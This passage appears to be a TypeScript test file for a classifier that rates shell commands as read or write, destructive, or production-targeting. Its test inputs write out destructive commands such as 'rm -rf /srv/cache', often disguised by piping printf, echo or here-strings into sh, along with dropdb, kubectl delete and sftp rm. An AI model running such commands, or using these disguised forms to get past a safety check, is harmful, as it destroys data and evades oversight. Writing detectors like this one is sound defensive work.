    "sqlite3 app.db 'PRAGMA foreign_keys = ON' 'SELECT count(*) FROM orders'",
    "sqlite3 app.db 'PRAGMA busy_timeout=5000' 'SELECT 1'",
    "sqlite3 app.db 'VACUUM'",
    "sqlite3 app.db \"SELECT readfile('notes.txt')\"",
    "sqlite3 app.db '.log stderr' 'SELECT 1'",
    "sqlite3 app.db '.log off'",
    "sqlite3 notes.sqlar '.ar -t'",
    "sqlite3 notes.sqlar '.ar --list --verbose'",
    "sqlite3 notes.sqlar '.ar -cn notes.txt'",
    "sqlite3 notes.sqlar -Atv",
    "sqlite3 -init /dev/null app.db 'SELECT 1'",
    "sqlite3 -init report_queries.sql app.db",
  ])("reads: %s", (command) => {
    expect(runCommand(command).risk).toBe("read");
  });

  it.each([
    // The same forms piped into a shell (found on the way): printf's arguments, a group, echo's words in pieces, a `$'…'` string.
    ["printf 'rm -rf %s\\n' /srv/cache | sh", "write", true, "`rm -rf`"],
    ["printf '%s\\n' 'rm -rf /srv/cache' | bash", "write", true, "`rm -rf`"],
    ["(echo 'cd /srv'; echo 'rm -rf cache') | sh", "write", true, "`rm -rf`"],
    ["{ echo rm -rf /srv/cache; } | bash", "write", true, "`rm -rf`"],
    ["echo 'rm' '-rf' /srv/cache | sh", "write", true, "`rm -rf`"],
    ["echo $'rm -rf /srv/cache' | sh", "write", true, "`rm -rf`"],
    ["echo 'rm -rf /srv/cache' | nice sh", "write", true, "`rm -rf`"],
    ["echo 'ls\\nrm -rf /srv/cache' | sh", "write", true, "`rm -rf`"],
    ["sh <<< $'cd /srv\\nrm -rf cache'", "write", true, "`rm -rf`"],
    ["python3 - <<< $'import shutil\\nshutil.rmtree(\"/srv/cache\")'", "write", true, "`python3 shutil.rmtree`"],
    ['echo "$X" | sh', "write", true, "`echo $X | sh` (code the plan does not show)"],
    ['echo "$(cat steps.txt)" | bash', "write", true, "`echo $(…) | bash` (code the plan does not show)"],
  ] as const)("%s", (command, risk, destructive, what) => {
    const r = runCommand(command);
    expect([r.risk, r.destructive]).toEqual([risk, destructive]);
    expect(r.cause?.reason).toBe(`${what} in \`with.command\``);
  });

  it.each([
    "printf 'ls -l %s\\n' /srv | sh",
    "(echo 'cd /srv'; echo 'ls -l') | sh",
    "sh <<< $'cd /srv\\nls'",
    "{ echo rm -rf x; } | bash -n",
    'echo "$(ls)" | wc -l',
  ])("reads: %s", (command) => {
    expect(runCommand(command).risk).toBe("read");
  });

  it("a production name in a variable a file program does not read names no production; one it reads, or any other program, still does", () => {
    const production = (command: string) => commandEffects(command).map((e) => [e.what, e.production]);
    expect(production("export NODE_ENV=production && rm -rf dist/tmp")).toEqual([["`rm -rf`", undefined]]);
    expect(production("NODE_ENV=production rm -rf dist/tmp")).toEqual([["`rm -rf`", undefined]]);
    expect(production("export NODE_ENV=production; mkdir -p build && cp -r assets build/")).toEqual([["`mkdir`", undefined], ["`cp`", undefined]]);
    // The variable expanded on the line (in the arguments, or where the command runs), a production path in the arguments.
    expect(production("export DIR=/srv/production && rm -rf $DIR/tmp")).toEqual([["`rm -rf`", "/srv/production"]]);
    expect(production("export D=/srv/production && cd \"${D}\" && rm -rf tmp")).toEqual([["`rm -rf`", "/srv/production"]]);
    expect(production("rm -rf /srv/production/tmp")).toEqual([["`rm -rf`", "/srv/production/tmp"]]);
    // A client, a script, a package runner or kubectl may read it.
    expect(production("export NODE_ENV=production && ./cleanup.sh")).toEqual([["`cleanup.sh`", "production"]]);
    expect(production("NODE_ENV=production npm run clean")).toEqual([["`npm run clean`", "NODE_ENV=production"]]);
    expect(production("export PGHOST=db.prod.internal && rm -rf /tmp/x && dropdb app")).toEqual([["`rm -rf`", undefined], ["`dropdb`", "db.prod.internal"]]);
    expect(production("PGHOST=db.prod.internal dropdb app")).toEqual([["`dropdb`", "PGHOST=db.prod.internal"]]);
    expect(production("export KUBE_CONTEXT=prod && kubectl delete pod web-1")).toEqual([["`kubectl delete`", "prod"]]);
    expect(runCommand("export NODE_ENV=production && rm -rf dist/tmp").impacts).toEqual([]);
    // Thousands of assignments and commands: the line's assignments are read once.
    expect(commandEffects(`export ${"A=production ".repeat(20000)}&& ${"rm -f $B; ".repeat(20000)}`).filter((e) => e.production !== undefined)).toEqual([]);
  });

  it("stays linear on long awk programs printing to a shell, and chains of xargs", () => {
    expect(commandEffects(`awk '{ print ${'"a" '.repeat(40000)}$1 | "sh" }'`)).toEqual([]);
    expect(new Set(commandEffects(`awk '${'print "a" | "sh"; '.repeat(30000)}print "rm " $1 | "sh"'`).map((e) => e.what))).toEqual(new Set(["`rm`"]));
    expect(commandEffects(`awk '{ printf "${"%s".repeat(30000)}\\n", ${'"a", '.repeat(30000)}$1 | "sh" }'`)).toEqual([]);
    expect(commandEffects(`awk '${"print $1 ".repeat(30000)}| "sh"'`).map((e) => e.what)).toEqual(['`awk | "sh"` (code the plan does not show)']);
    expect(commandEffects(`awk '${"((".repeat(30000)}print "rm " $1 | "sh"'`).map((e) => e.what)).toEqual(["`rm`"]);
    expect(commandEffects(`${"ls | xargs echo ".repeat(20000)}| sh`).length).toBeLessThan(3);
    expect(commandEffects(`${"(".repeat(40000)}echo ls${")".repeat(40000)} | sh`)).toEqual([]);
    expect(commandEffects(`${"{ echo ls; } | sh; ".repeat(20000)}`)).toEqual([]);
    expect(commandEffects(`${"$(".repeat(20000)}${"a)|sh ".repeat(20000)}`).filter((e) => e.what.endsWith("| sh` (code the plan does not show)")).length).toBe(20000);
    expect(commandEffects(`ls ${"$(a) ".repeat(20000)}| sh`).map((e) => e.what)).toEqual(["`ls | sh` (code the plan does not show)"]);
  });

  it("stays linear on printf arguments, groups and here-strings fed to sftp", () => {
    expect(commandEffects(`printf '${"%s ".repeat(30000)}\\n' ${"a ".repeat(30000)}| sftp h`)).toEqual([]);
    expect(commandEffects(`printf 'ls %s\\n' ${"a ".repeat(60000)}| sftp h`)).toEqual([]);
    expect(new Set(commandEffects(`(${"echo rm a; ".repeat(20000)}) | sftp h`).map((e) => e.what))).toEqual(new Set(["`sftp rm`"]));
    expect(commandEffects(`${"(".repeat(40000)}echo ls${")".repeat(40000)} | sftp h`)).toEqual([]);
    expect(commandEffects(`${") | sftp h; ".repeat(20000)}`)).toEqual([]);
    expect(commandEffects(`${"$(".repeat(20000)}${"a)|sftp h ".repeat(20000)}`).filter((e) => e.what.endsWith("| sftp` (code the plan does not show)")).length).toBe(20000);
    expect(commandEffects(`sftp h <<< $'${"ls\\n".repeat(40000)}rm x'`).map((e) => e.what)).toEqual(["`sftp rm`"]);
  });
});
